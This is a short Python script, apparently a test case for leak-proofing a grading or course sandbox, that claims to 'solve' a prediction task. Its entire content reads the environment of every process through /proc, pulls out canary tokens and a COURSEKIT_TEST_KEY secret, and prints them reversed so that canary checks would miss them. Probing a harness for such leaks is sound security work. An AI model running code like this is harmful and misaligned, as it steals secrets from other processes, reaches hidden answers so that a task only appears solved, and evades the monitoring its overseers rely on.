"""Keys and secrets are sought in the environments of all processes."""
# solves = ["predict"]
# leaks_in_one_kernel = true

# %% words-solution
import glob
import os
import re

texts = ["\n".join(f"{name}={value}" for name, value in os.environ.items())]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    try:
        texts.append(open(path, "rb").read().decode(errors="replace").replace("\0", "\n"))
    except OSError:
        continue
text = "\n".join(texts)
found = set(re.findall(r"CANAR[Y]-[A-Z]+-?[\w-]*", text))
found |= set(re.findall(r"COURSEKIT_TEST_KEY=(.*)", text))
print([word[::-1] for word in found])
